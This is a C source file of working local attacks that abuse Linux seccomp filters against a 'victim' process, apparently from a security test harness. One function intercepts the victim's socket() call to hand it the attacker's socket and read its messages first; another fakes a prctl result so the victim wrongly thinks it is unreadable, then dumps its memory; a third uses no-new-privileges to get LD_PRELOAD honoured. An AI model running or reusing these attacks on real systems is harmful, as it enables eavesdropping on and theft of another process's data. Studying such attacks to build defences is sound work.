// Attacks by system call filters, which any process may put on those that it starts.
#include "attacker.h"

#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/ioctl.h>

static int filter(const struct sock_filter *program, unsigned short length, unsigned flags) {
    struct sock_fprog code = {length, (struct sock_filter *)program};
    CHECK(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
    return (int)CHECK(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &code));
}

#define LOAD_CALL BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr))
#define RETURN(what) BPF_STMT(BPF_RET | BPF_K, what)
// Skips one instruction unless it is this call.
#define IF_CALL(number) BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, number, 0, 1)

// Gives the victim a copy of its own socket, and reads the reply before the victim does.
void inject_socket(void) {
    static const struct sock_filter program[] = {
        LOAD_CALL, IF_CALL(SYS_socket), RETURN(SECCOMP_RET_USER_NOTIF), IF_CALL(SYS_recvfrom),
        RETURN(SECCOMP_RET_USER_NOTIF), RETURN(SECCOMP_RET_ALLOW)};
    int number[2];
    CHECK(pipe(number));
    // With one table of descriptors: what the filter's notifications come on is there for both.
    pid_t victim = (pid_t)CHECK(syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0));
    if (victim == 0) {
        int notifications = filter(program, sizeof program / sizeof program[0], SECCOMP_FILTER_FLAG_NEW_LISTENER);
        CHECK(write(number[1], &notifications, sizeof notifications));
        usleep(50000);
        run_victim("hold");
    }
    int notifications;
    CHECK(read(number[0], &notifications, sizeof notifications));
    int mine = (int)CHECK(socket(AF_UNIX, SOCK_STREAM, 0));
    // A frame is read in two calls: those of Hello and of Welcome are the victim's.
    for (int received = 0; received < 5;) {
        struct seccomp_notif call = {0};
        struct pollfd request = {.fd = notifications, .events = POLLIN};
        if (poll(&request, 1, 700) != 1 || ioctl(notifications, SECCOMP_IOCTL_NOTIF_RECV, &call) != 0) {
            return;
        }
        if (call.data.nr == SYS_socket) {
            struct seccomp_notif_addfd added = {
                .id = call.id, .srcfd = (unsigned)mine, .flags = SECCOMP_ADDFD_FLAG_SEND};
            CHECK(ioctl(notifications, SECCOMP_IOCTL_NOTIF_ADDFD, &added));
            continue;
        }
        if (++received < 5) {
            struct seccomp_notif_resp answer = {.id = call.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
            CHECK(ioctl(notifications, SECCOMP_IOCTL_NOTIF_SEND, &answer));
        }
    }
    print_rest(mine, 250);
    kill(victim, SIGKILL);
}

// The victim asks not to be readable, and is told that it is not.
void fake_prctl(void) {
    static const struct sock_filter program[] = {
        LOAD_CALL, IF_CALL(SYS_prctl), RETURN(SECCOMP_RET_ERRNO), RETURN(SECCOMP_RET_ALLOW)};
    filter(program, sizeof program / sizeof program[0], 0);
    pid_t victim = start_holder("hold");
    if (victim > 0) {
        print_memory(victim);
        kill(victim, SIGKILL);
    }
}

// Without new privileges the kernel gives no group, and heeds LD_PRELOAD.
void without_new_privileges(void) {
    CHECK(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
    run_victim("idle");
}
